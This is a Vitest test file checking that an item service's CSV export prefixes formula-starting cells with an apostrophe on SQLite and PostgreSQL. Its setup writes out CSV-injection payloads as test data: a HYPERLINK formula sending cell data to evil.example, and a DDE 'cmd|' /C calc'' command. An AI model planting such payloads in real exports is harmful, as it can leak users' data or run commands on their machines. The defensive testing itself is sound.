/**
 * CSV exports neutralise spreadsheet formulas: items whose name, category or description start
 * with `=`, `+`, `-`, `@`, tab or CR come out of `GET /export/items.csv` with a leading `'`, on
 * SQLite and on PostgreSQL (both the cursor path and the COPY path, which neutralises in SQL).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildApp } from '../../../service/src/app.js'
import { loadConfig } from '../../../service/src/config.js'
import type { ServiceApp } from '../../../service/src/context.js'
import { createDatabase, type ServiceDatabase } from '../../../service/src/db/create-database.js'
import { seedDatabase } from '../../../service/src/seed.js'
import { BACKENDS, type TestDatabase } from '../service/backends.js'
import { SIZES } from './support.js'

/** RFC 4180 fields of a CSV document (quoted fields may hold CR, LF and doubled quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(field)
      field = ''
    } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++
      row.push(field)
      rows.push(row)
      row = []
      field = ''
    } else field += ch
  }
  if (field !== '' || row.length > 0) rows.push([...row, field])
  return rows
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r']
const CATEGORY = 'csv-probe'

describe.each(BACKENDS)('CSV formula neutralisation on $name', (backend) => {
  describe.runIf(backend.enabled)(backend.name, () => {
    let testDb: TestDatabase
    let database: ServiceDatabase
    let app: ServiceApp

    beforeAll(async () => {
      testDb = await backend.create()
      const config = loadConfig({ DATABASE_URL: testDb.url, LOG_LEVEL: 'silent' })
      database = await createDatabase(config.database, { poolSize: 2, migrate: true })
      await seedDatabase(database, { ...SIZES, items: 20, posts: 0 })
      app = await buildApp(config, { database })
      await app.ready()
      for (const trigger of TRIGGERS) {
        const response = await app.inject({
          method: 'POST',
          url: '/items',
          payload: {
            name: `${trigger}HYPERLINK("http://evil.example/?"&A1,"x")`,
            category: CATEGORY,
            price: 1,
            description: `${trigger}cmd|' /C calc'!A0`,
          },
        })
        expect(response.statusCode).toBe(201)
      }
    })

    afterAll(async () => {
      await app?.close()
      await database?.close()
      await testDb?.drop()
    })

    const vias = backend.name === 'postgres' ? ['cursor', 'copy'] : [undefined]

    it.each(vias)('prefixes every formula-starting cell with an apostrophe (via %s)', async (via) => {
      const query = `category=${CATEGORY}&columns=id,name,description${via ? `&via=${via}` : ''}`
      const response = await app.inject({ method: 'GET', url: `/export/items.csv?${query}` })
      expect(response.statusCode).toBe(200)
      const [header, ...rows] = parseCsv(response.body)
      expect(header).toEqual(['id', 'name', 'description'])
      expect(rows).toHaveLength(TRIGGERS.length)
      const names = rows.map((row) => row[1])
      const descriptions = rows.map((row) => row[2])
      for (const trigger of TRIGGERS) {
        expect(names).toContain(`'${trigger}HYPERLINK("http://evil.example/?"&A1,"x")`)
        expect(descriptions).toContain(`'${trigger}cmd|' /C calc'!A0`)
      }
      // No cell of the document starts a formula.
      for (const row of rows) for (const cell of row.slice(1)) expect(cell).toMatch(/^'/)
    })

    it('leaves the stored data and the JSON API unchanged (neutralisation is an export concern)', async () => {
      const response = await app.inject({ method: 'GET', url: `/items?category=${CATEGORY}` })
      const names = response.json<{ data: { name: string }[] }>().data.map((item) => item.name)
      expect(names).toContain('=HYPERLINK("http://evil.example/?"&A1,"x")')
    })
  })
})
